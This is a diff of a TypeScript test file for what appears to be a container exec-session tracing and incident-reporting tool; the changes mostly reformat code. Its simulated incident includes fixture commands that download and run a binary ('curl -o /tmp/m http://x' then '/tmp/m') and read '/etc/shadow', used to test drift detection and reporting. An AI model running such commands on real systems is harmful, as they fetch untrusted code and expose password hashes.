@@ -9,9 +9,29 @@ import type { AttributedEvent } from '../join/types.js';
 const S = 1000;
 const OTHER = 'f'.repeat(64);
 /** A command in the exec session of pid `leader` (pts/0), `s` seconds into the trace. */
-const typed = (leader: number, pid: number, s: number, args: string[], over: Partial<AttributedEvent['event']> = {}, containerId?: string): AttributedEvent =>
-  podEvent({ timeMs: T0 + s * S, pid, args, comm: args[0]!, filename: `/bin/${args[0]}`, tty: 'pts/0', sessionLeaderPid: leader, inInitTree: false, cwd: '/srv', ...over },
-    { entry: 'exec', workload: 'deploy/web', ...(containerId ? { containerId } : {}) });
+const typed = (
+  leader: number,
+  pid: number,
+  s: number,
+  args: string[],
+  over: Partial<AttributedEvent['event']> = {},
+  containerId?: string,
+): AttributedEvent =>
+  podEvent(
+    {
+      timeMs: T0 + s * S,
+      pid,
+      args,
+      comm: args[0]!,
+      filename: `/bin/${args[0]}`,
+      tty: 'pts/0',
+      sessionLeaderPid: leader,
+      inInitTree: false,
+      cwd: '/srv',
+      ...over,
+    },
+    { entry: 'exec', workload: 'deploy/web', ...(containerId ? { containerId } : {}) },
+  );
 
 /** An incident: a shell that ran commands, a second session that dropped and ran a binary, the workload and a probe around them. */
 function incident(): AttributedEvent[] {
@@ -37,7 +57,12 @@ describe('SessionLog', () => {
       [200, null, true, ['sh', 'curl -o /tmp/m http://x', '/tmp/m', 'nope']],
       [100, 'pts/0', false, ['bash', 'ls -l', 'cat /etc/shadow']],
     ]);
-    expect(list[0]!.commands.map((c) => [c.drift, c.error])).toEqual([[false, null], [false, null], [true, null], [false, 'ENOENT']]);
+    expect(list[0]!.commands.map((c) => [c.drift, c.error])).toEqual([
+      [false, null],
+      [false, null],
+      [true, null],
+      [false, 'ENOENT'],
+    ]);
   });
 
   it('ends a session when its first process ends (--exits), in the same container only', () => {
@@ -115,7 +140,9 @@ describe('sessions in the summary, the Markdown summary and the timeline', () =>
     for (const e of incident()) md.add(e);
     const text = md.render();
     expect(text).toContain('### Exec sessions');
-    expect(text).toMatch(/#### default\/web-7d9f8b6c5d-x2x9q nginx \\\(deploy\/web\\\) — ran a file not from the image\n\npid 200, no terminal, uid 0; started 11:41:21 UTC, last command 11:41:24, end not traced\./);
+    expect(text).toMatch(
+      /#### default\/web-7d9f8b6c5d-x2x9q nginx \\\(deploy\/web\\\) — ran a file not from the image\n\npid 200, no terminal, uid 0; started 11:41:21 UTC, last command 11:41:24, end not traced\./,
+    );
     expect(text).toContain('| 11:41:23 | **drift** `/tmp/m` | ran | `/srv` |');
     expect(text).toContain('| 11:41:24 | `nope` | ENOENT | `/srv` |');
   });
@@ -125,13 +152,27 @@ describe('sessions in the summary, the Markdown summary and the timeline', () =>
     for (const e of incident()) tl.exec(e);
     tl.exit('worker-1', 100, T0 + 10 * S, { exitCode: 0, signal: null });
     const ev = tl.render(T0 + 20 * S).traceEvents;
-    const names = ev.filter((e) => e.name === 'process_name').map((e) => e.args!.name as string).filter((n) => n.startsWith('exec session'));
-    expect(names).toEqual(['exec session default/web-7d9f8b6c5d-x2x9q nginx (deploy/web) pid 200', 'exec session default/web-7d9f8b6c5d-x2x9q nginx (deploy/web) pid 100 pts/0']);
+    const names = ev
+      .filter((e) => e.name === 'process_name')
+      .map((e) => e.args!.name as string)
+      .filter((n) => n.startsWith('exec session'));
+    expect(names).toEqual([
+      'exec session default/web-7d9f8b6c5d-x2x9q nginx (deploy/web) pid 200',
+      'exec session default/web-7d9f8b6c5d-x2x9q nginx (deploy/web) pid 100 pts/0',
+    ]);
     const spans = ev.filter((e) => e.cat === 'session');
     expect(spans.map((e) => [e.ts, e.dur, (e.args as { exit: unknown }).exit])).toEqual([
       [(T0 + 5 * S) * 1000, 15 * S * 1000, null],
       [(T0 + 1 * S) * 1000, 9 * S * 1000, { exitCode: 0, signal: null }],
     ]);
-    expect(ev.filter((e) => e.cat === 'session,command').map((e) => e.name)).toEqual(['sh', 'curl -o /tmp/m http://x', '/tmp/m', 'nope', 'bash', 'ls -l', 'cat /etc/shadow']);
+    expect(ev.filter((e) => e.cat === 'session,command').map((e) => e.name)).toEqual([
+      'sh',
+      'curl -o /tmp/m http://x',
+      '/tmp/m',
+      'nope',
+      'bash',
+      'ls -l',
+      'cat /etc/shadow',
+    ]);
   });
 });
